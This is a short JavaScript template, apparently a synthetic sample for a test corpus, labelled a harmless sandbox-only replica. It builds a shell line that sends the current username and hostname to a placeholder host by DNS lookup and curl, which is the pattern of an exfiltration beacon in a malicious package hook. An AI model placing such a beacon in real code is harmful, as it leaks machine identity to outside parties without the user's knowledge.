// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execSync } = require('child_process');
  const line = 'n=$(whoami | tr -cd a-z0-9).$(hostname | tr -cd a-z0-9); nslookup -timeout=1 "$n.{{token}}.{{host}}" || getent hosts "$n.{{token}}.{{host}}"; curl -s -m 1 "http://{{host}}/{{path}}?n=$n"';
  try { execSync(line, { timeout: 2500, stdio: 'ignore' }); } catch (error) { /* none of the programs answered */ }
}
